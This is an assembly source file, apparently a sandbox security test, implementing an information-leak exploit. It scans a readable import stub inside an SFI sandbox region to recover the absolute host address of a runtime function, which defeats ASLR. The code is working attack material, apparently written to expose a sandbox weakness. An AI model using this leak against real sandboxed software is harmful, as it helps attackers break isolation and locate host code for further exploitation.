# stubleak.s: attack() loads its GOT slot for __sfi_sys_isatty (the
# address of the import stub the loader placed in the region), scans the
# stub's bytes with %gs: reads for `movabs $fn, %r11` (49 bb imm64) and
# returns the immediate: the absolute address of the runtime's
# sfi__sys_isatty in the host binary. Import stubs (thunk.c, loader.c
# make_stubs) live in the region, readable, with host addresses inside: the
# sandbox learns the host's code layout (ASLR) with ordinary reads.
        .text
        .p2align 4, 0xcc
        .globl attack
        .type attack,@function
attack:
        movq __sfi_sys_isatty@GOTPCREL(%rip), %rax
        movq %rax, %rcx
        xorl %edx, %edx
1:      cmpw $0xbb49, %gs:(%ecx)
        je 2f
        incl %ecx
        incl %edx
        cmpl $200, %edx
        jb 1b
        xorl %eax, %eax
        ret
2:      movq %gs:2(%ecx), %rax
        ret
        .include "marker.inc"
        .section .note.GNU-stack,"",@progbits
